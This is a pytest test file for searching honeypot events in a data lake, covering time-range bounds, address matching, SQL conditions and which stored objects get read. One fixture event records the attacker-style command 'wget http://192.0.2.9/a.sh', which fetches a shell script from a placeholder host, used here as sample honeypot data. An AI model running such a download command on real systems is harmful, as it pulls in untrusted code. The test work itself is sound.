"""Search in published events: the half-open range, the address, the condition, and no more reads
than that takes."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from stingar_dagster.errors import UsageError
from stingar_dagster.lake.lake import Lake
from stingar_dagster.search import Query, search
from stingar_dagster.storage.local import LocalStore
from stingar_dagster.streams import STINGAR
from stingar_dagster_tests.support import HOUR, Site, event

FIVE = datetime(2022, 5, 19, 17, tzinfo=UTC)
MILLISECOND = timedelta(milliseconds=1)
COMMAND = "CMD: wget http://192.0.2.9/a.sh"


class ReadsRemembered(LocalStore):
    """A local store that remembers which objects were read."""

    def __init__(self, root: Path) -> None:
        super().__init__(root, str(root))
        self.reads: list[str] = []

    def read(self, path: str) -> bytes:
        self.reads.append(path)
        return super().read(path)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """Events of four hours over two days, and one a year before."""
    site = Site.at(tmp_path_factory.mktemp("search"))
    bodies = [
        event(FIVE - timedelta(days=365), src_ip="198.51.100.1"),
        event(FIVE - MILLISECOND, src_ip="198.51.100.1", dest_port=23),
        event(FIVE, src_ip="198.51.100.2", signature="command entered", command=COMMAND),
        event(FIVE + HOUR - MILLISECOND, src_ip="2001:db8::7", username="root"),
        event(FIVE + HOUR, src_ip="198.51.100.2", username='"quoted"'),
        event(FIVE + 9 * HOUR, src_ip='odd "address"'),
    ]
    site.put(bodies, start=FIVE + 10 * HOUR)
    site.run()
    return site


@pytest.fixture
def lake(site: Site) -> Lake:
    return Lake(ReadsRemembered(Path(site.lake)), STINGAR)


def found(lake: Lake, since: datetime, until: datetime, **more: Any) -> list[dict[str, Any]]:
    return list(rows(search(lake, Query(since, until, **more))))


def rows(matches: Iterator[tuple[int, int, Any]]) -> Iterator[dict[str, Any]]:
    for _, _, frame in matches:
        yield from frame.iter_rows(named=True)


def times(events: list[dict[str, Any]]) -> list[str]:
    return [event["@timestamp"] for event in events]


def test_the_range_includes_its_first_moment_and_excludes_its_last(lake: Lake) -> None:
    assert times(found(lake, FIVE, FIVE + HOUR)) == [
        "2022-05-19T17:00:00.000Z",
        "2022-05-19T17:59:59.999Z",
    ]


def test_a_range_inside_an_hour_takes_only_its_part(lake: Lake) -> None:
    minute = timedelta(minutes=1)
    assert times(found(lake, FIVE + 59 * minute, FIVE + 60 * minute)) == [
        "2022-05-19T17:59:59.999Z"
    ]
    assert found(lake, FIVE + minute, FIVE + 59 * minute) == []
    assert times(found(lake, FIVE, FIVE + HOUR - MILLISECOND)) == ["2022-05-19T17:00:00.000Z"]


def test_a_bound_between_two_milliseconds_is_still_half_open(lake: Lake) -> None:
    just_after = timedelta(microseconds=1)
    assert times(found(lake, FIVE + just_after, FIVE + HOUR)) == ["2022-05-19T17:59:59.999Z"]
    assert times(found(lake, FIVE, FIVE + just_after)) == ["2022-05-19T17:00:00.000Z"]


@pytest.mark.parametrize(
    ("since", "until"),
    [
        (datetime.min, datetime.max),
        (datetime(300, 1, 1), datetime(9999, 12, 31, 23, 59, 59, 999999)),
    ],
)
def test_any_year_can_bound_a_range(lake: Lake, since: datetime, until: datetime) -> None:
    assert len(found(lake, since.replace(tzinfo=UTC), until.replace(tzinfo=UTC))) == 6


def test_events_come_in_the_order_of_their_time(lake: Lake) -> None:
    for days in (1, 400):
        told = times(found(lake, FIVE - timedelta(days=days), FIVE + timedelta(days=1)))
        assert told == sorted(told)
        assert len(told) == (6 if days == 400 else 5)


def test_an_address_is_matched_whole(lake: Lake) -> None:
    day = (FIVE - 17 * HOUR, FIVE + 24 * HOUR)
    assert len(found(lake, *day, src_ip="198.51.100.2")) == 2
    assert len(found(lake, *day, src_ip="2001:db8::7")) == 1
    assert found(lake, *day, src_ip="198.51.100") == []
    assert found(lake, *day, src_ip="192.0.2.9") == []  # only inside a command


def test_an_address_that_json_escapes_is_found_as_well(lake: Lake) -> None:
    assert len(found(lake, FIVE, FIVE + 24 * HOUR, src_ip='odd "address"')) == 1


@pytest.mark.parametrize(
    ("where", "hits"),
    [
        ("dest_port = 23", 1),
        ("event_kind = 'command' AND command LIKE '%wget%'", 1),
        ("username IS NOT NULL", 2),
        ("username = '\"quoted\"' OR dest_port = 23", 2),
        ("true", 5),
        ("false", 0),
    ],
)
def test_a_condition_is_sql_over_the_published_columns(lake: Lake, where: str, hits: int) -> None:
    assert len(found(lake, FIVE - HOUR, FIVE + 24 * HOUR, where=where)) == hits


def test_a_condition_can_not_widen_the_range_or_the_address(lake: Lake) -> None:
    either = "dest_port = 23 OR true"
    assert len(found(lake, FIVE, FIVE + HOUR, where=either)) == 2
    assert len(found(lake, FIVE, FIVE + HOUR, where=either, src_ip="198.51.100.2")) == 1


@pytest.mark.parametrize(
    "where",
    ["", "*", "'", "dest_port =", "nope = 1", "dest_port = 'ssh'", "1", "SELECT 1", "sensor ~ '['"],
)
def test_a_condition_that_is_none_is_refused_before_anything_is_read(
    lake: Lake, where: str
) -> None:
    with pytest.raises(UsageError, match="--where") as refusal:
        search(lake, Query(FIVE, FIVE + HOUR, where=where))
    assert "\n" not in str(refusal.value)
    assert isinstance(lake.store, ReadsRemembered)
    assert lake.store.reads == []


def test_a_condition_that_fails_over_the_values_is_refused_in_one_line(lake: Lake) -> None:
    with pytest.raises(UsageError, match="--where") as refusal:
        found(lake, FIVE, FIVE + HOUR, where="CAST(sensor AS INTEGER) = 1")
    assert "\n" not in str(refusal.value)


@pytest.mark.parametrize("days", [0, 70])
def test_only_objects_of_hours_in_the_range_are_read(lake: Lake, days: int) -> None:
    found(lake, FIVE - timedelta(days=days), FIVE + HOUR + MILLISECOND)
    assert isinstance(lake.store, ReadsRemembered)
    hours = [FIVE, FIVE + HOUR] if days == 0 else [FIVE - HOUR, FIVE, FIVE + HOUR]
    assert lake.store.reads == [lake.layout.events(hour) for hour in hours]


def test_progress_counts_the_hours_of_the_range(lake: Lake) -> None:
    steps = [(done, total) for done, total, _ in search(lake, Query(FIVE, FIVE + 2 * HOUR))]
    assert steps == [(1, 2), (2, 2)]


def test_an_hour_that_goes_away_meanwhile_is_passed_over(site: Site, tmp_path: Path) -> None:
    lake = Lake(ReadsRemembered(Path(site.lake)), STINGAR)
    matches = search(lake, Query(FIVE, FIVE + 2 * HOUR))
    next(matches)
    path = Path(site.lake) / lake.layout.events(FIVE + HOUR)
    aside = path.rename(tmp_path / "aside")
    assert list(matches) == []
    aside.rename(path)
